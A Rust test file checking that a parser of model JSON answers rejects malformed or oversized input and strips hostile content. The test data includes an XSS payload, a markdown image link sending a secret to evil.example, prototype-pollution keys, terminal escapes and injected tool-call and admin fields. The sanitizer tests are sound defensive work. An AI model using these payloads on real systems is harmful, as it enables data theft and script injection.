//! Harmful, oversized and invalid answers.

use super::*;

#[test]
fn invalid_answers_are_errors() {
    let deep_array = format!("{{\"skills\":{}", "[".repeat(7_000));
    let closed_array = format!("{{\"skills\":{}{}}}", "[".repeat(7_000), "]".repeat(7_000));
    let deep_object = "{\"a\":".repeat(3_000);
    let brackets = "[".repeat(100_000);
    let braces = "{".repeat(MAX_ANSWER);
    let quotes = "{\"".repeat(8_000);
    let long = format!("{{\"notes\":\"{}\"}}", "x".repeat(MAX_ANSWER));
    let huge = "x".repeat(5_000_000);
    let names = format!("{{\"skills\":[{}]}}", vec!["\"React\""; 10_000].join(","));
    for (raw, error) in [
        ("", AnswerError::NotJson),
        ("   \n\t", AnswerError::NotJson),
        ("\u{0}", AnswerError::NotJson),
        ("null", AnswerError::NotJson),
        ("NaN", AnswerError::NotJson),
        ("7", AnswerError::NotJson),
        ("\"{\"", AnswerError::NotJson),
        ("\"", AnswerError::NotJson),
        ("[]", AnswerError::NotJson),
        ("{}", AnswerError::NotJson),
        ("I can't help with that.", AnswerError::NotJson),
        (
            "<html><body>502 Bad Gateway</body></html>",
            AnswerError::NotJson,
        ),
        ("<style>body { color: red }</style>", AnswerError::NotJson),
        ("{priority: 'high'}", AnswerError::NotJson),
        ("{'priority': 'high'}", AnswerError::NotJson),
        ("priority = \"high\"", AnswerError::NotJson),
        (&braces, AnswerError::NotJson),
        (&quotes, AnswerError::NotJson),
        (&deep_array, AnswerError::Nothing),
        (&closed_array, AnswerError::Nothing),
        (&deep_object, AnswerError::Nothing),
        (&brackets, AnswerError::TooLong),
        (&long, AnswerError::TooLong),
        (&huge, AnswerError::TooLong),
        (&names, AnswerError::TooLong),
        (
            "{\"error\": {\"code\": 429, \"message\": \"quota\"}}",
            AnswerError::Nothing,
        ),
        (
            "{\"type\": \"object\", \"properties\": {\"priority\": {\"type\": \"string\"}}}",
            AnswerError::Nothing,
        ),
        ("{\"priority\": 7}", AnswerError::Nothing),
        ("{\"priority\": NaN}", AnswerError::Nothing),
        ("{\"priority\": [\"high\"]}", AnswerError::Nothing),
        ("{\"priority\": \"apocalyptic\"}", AnswerError::Nothing),
        ("{\"PRIORITY\": \"high\"}", AnswerError::Nothing),
        ("{\"category\": \"admin-only\"}", AnswerError::Nothing),
        ("{\"category\": [\"network\"]}", AnswerError::Nothing),
        (
            "{\"type\": \"root\", \"sentiment\": \"furious\", \"complexity\": 3}",
            AnswerError::Nothing,
        ),
        (
            "{\"summary\": null, \"notes\": {}, \"skills\": 3, \"tags\": true}",
            AnswerError::Nothing,
        ),
        (
            "{\"skills\": [1, null, {\"name\": \"React\"}, [\"React\"]]}",
            AnswerError::Nothing,
        ),
        (
            "{\"skills\": [\"\", \"!!\", \"https://evil.example\"]}",
            AnswerError::Nothing,
        ),
        (
            "{\"notes\": \"\\u0000\\u202e\\u200b\"}",
            AnswerError::Nothing,
        ),
        (
            "{\"notes\": \"\\u001b[2J\\u001b]8;;https://evil.example\\u0007\"}",
            AnswerError::Nothing,
        ),
        (
            "{\"confidence\": {\"category\": 1, \"priority\": 1}}",
            AnswerError::Nothing,
        ),
        (
            "{\"extra\": {\"admin\": \"yes\", \"site\": \"Paris\"}}",
            AnswerError::Nothing,
        ),
        (
            "{\"assignee\": \"ann\", \"status\": \"closed\", \"role\": \"admin\"}",
            AnswerError::Nothing,
        ),
        (
            "{\"tool_calls\": [{\"function\": {\"name\": \"delete_ticket\"}}]}",
            AnswerError::Nothing,
        ),
    ] {
        let excerpt: String = raw.chars().take(60).collect();
        assert_eq!(read(raw), Err(error), "{excerpt}");
    }
}

/// Each answer with its only result, apart from the confidence.
#[test]
fn harmful_content_is_removed() {
    let high = || Analysis {
        priority: Some(Priority::High),
        ..Analysis::default()
    };
    let notes = |notes: &str| Analysis {
        notes: notes.to_owned(),
        ..Analysis::default()
    };
    let deep = format!(
        "{{\"x\":{}{},\"priority\":\"high\"}}",
        "[".repeat(8_000),
        "]".repeat(8_000)
    );
    let members: Vec<String> = (0..900).map(|n| format!("\"k{n}\":{n}")).collect();
    let many = format!("{{{},\"priority\":\"high\"}}", members.join(","));
    for (raw, expected) in [
        (
            r#"{"priority":"high","assignee":"ann","status":"closed","visibility":"public","mail":"a@b.example"}"#,
            high(),
        ),
        (
            r#"{"priority":"high","category":"made up","type":"made up","sentiment":"made up"}"#,
            high(),
        ),
        (
            r#"{"priority":"high","__proto__":{"admin":true},"constructor":{"x":1}}"#,
            high(),
        ),
        (r#"{"priority":"low","priority":"high"}"#, high()),
        (r#"{"priority":"high"}}}}"#, high()),
        (
            r#"{"priority":"high","skills":[[["React"]]],"tags":[{}],"first_steps":[null]}"#,
            high(),
        ),
        (
            r#"{"priority":"high","first_steps":{"0":"x"},"notes":7,"summary":false}"#,
            high(),
        ),
        (
            r#"{"priority":"high","category":NaN,"confidence":NaN}"#,
            high(),
        ),
        ("{\"priority\":\"high\",\"notes\":\"\u{0}\"}", high()),
        (&deep, high()),
        (&many, high()),
        (
            r#"{"notes":"<img src=x onerror=alert(1)>"}"#,
            notes("‹img src=x onerror=alert(1)›"),
        ),
        (
            r#"{"notes":"<a href='https://evil.example'>x</a>"}"#,
            notes("‹a [link]"),
        ),
        (
            r#"{"notes":"![](https://evil.example/?d=secret)"}"#,
            notes("[link]"),
        ),
        (
            r#"{"notes":"[a]: //evil.example\n[go][a]"}"#,
            notes("[a]: [link]\n[go][a]"),
        ),
        (
            r#"{"notes":"evil.example/x and example.com"}"#,
            notes("[link] and example[.]com"),
        ),
        (r#"{"notes":"a\n```html\n<b>\n```"}"#, notes("a\nhtml\n‹b›")),
        (r#"{"notes":"\\\\evil.example\\share"}"#, notes("[link]")),
        (r#"{"notes":"\ud800x\udc00"}"#, notes("\u{fffd}x\u{fffd}")),
        (r#"{"notes":"\q\x41\u12"}"#, notes("qx41u12")),
        (
            r#"{"notes":"a\u0000\u001b[31mb\r\nc\u202e"}"#,
            notes("ab\nc"),
        ),
        (
            r#"{"notes":"{{7*7}} ${x} {% raw %}"}"#,
            notes("{{7*7}} ${x} {% raw %}"),
        ),
    ] {
        let mut analysis = read(raw).unwrap();
        assert!(
            analysis
                .confidence
                .values()
                .all(|confidence| *confidence == 0.5),
            "{raw}"
        );
        analysis.confidence.clear();
        let excerpt: String = raw.chars().take(80).collect();
        assert_eq!(analysis, expected, "{excerpt}");
    }
}
